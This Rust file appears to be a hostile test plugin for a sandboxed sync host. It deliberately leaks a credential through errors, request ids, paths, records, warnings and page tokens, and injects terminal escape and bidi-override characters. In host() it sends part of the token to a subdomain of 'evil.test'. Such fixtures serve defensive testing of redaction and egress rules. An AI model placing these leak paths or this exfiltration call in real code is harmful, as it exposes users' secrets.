//! Puts the credential where somebody else reads it.

use crate::bindings::syncer::{
    Error, Failure, GrantPage, ProfileEntry, ProfileValue, ReplyFailure, ResourcePage, Warning,
};
use crate::http;
use crate::order::{report, value};

/// An error: in its message behind a text as long as what is kept of one, in its request id, and in its place.
pub fn error() -> Result<(), Error> {
    let secret = value("token");
    let failure = Failure {
        message: format!("{}{secret} and {secret}", "x".repeat(1_990)),
        http_status: None,
        request_id: Some(secret.clone()),
    };
    Err(Error::Reply(ReplyFailure { failure, path: format!("data.{secret}") }))
}

/// No credential, but what moves a cursor and turns the order of letters around.
pub fn moving() -> Result<(), Error> {
    let failure =
        Failure { message: MOVING.into(), http_status: None, request_id: Some("a\u{7f}b\u{2028}".into()) };
    Err(Error::Reply(ReplyFailure { failure, path: "data[0]\n".into() }))
}

/// A text that is more than a line.
pub const MOVING: &str = "one\n\u{1b}[2Jtwo\u{202e}three\u{9b}";

/// The name of a server.
pub fn host() -> Result<(), Error> {
    let half = value("token").split_once(':').map(|(_, half)| half.to_owned()).unwrap_or_default();
    let outcome = http::outcome("GET", "http", &format!("{half}.evil.test"), "/", &[]);
    Err(report(format!("asked {half}: {outcome}")))
}

/// The path of a request to the origin that it may reach.
pub fn path() -> Result<(), Error> {
    let (scheme, authority) = http::allowed();
    let outcome = http::outcome("GET", &scheme, &authority, &format!("/v1/{}", value("token")), &[]);
    Err(report(format!("asked for /v1/{}: {outcome}", value("token"))))
}

/// A record.
pub fn record(mut page: ResourcePage) -> ResourcePage {
    for item in &mut page.items {
        let value = ProfileValue::Text(format!("it is {}", value("token")));
        item.profile.push(ProfileEntry { key: "note".into(), value });
    }
    page
}

/// A grant.
pub fn grant(mut page: GrantPage) -> GrantPage {
    for item in &mut page.items {
        item.immutable = Some(value("token"));
    }
    page
}

/// Warnings: across the place where a long one is cut, and as a resource.
pub fn warning(mut page: ResourcePage) -> ResourcePage {
    let secret = value("token");
    let text = format!("{}{secret}", "w".repeat(990));
    let mut resource = page.items.first().map(|item| item.id.clone());
    if let Some(resource) = &mut resource {
        resource.id.clone_from(&secret);
    }
    page.warnings =
        vec![Warning { message: text, resource: None }, Warning { message: "See this.".into(), resource }];
    page
}

/// A page token.
pub fn token(mut page: ResourcePage, token: Option<&str>) -> ResourcePage {
    if token.is_none() {
        page.next = vec![value("token")];
    }
    page
}
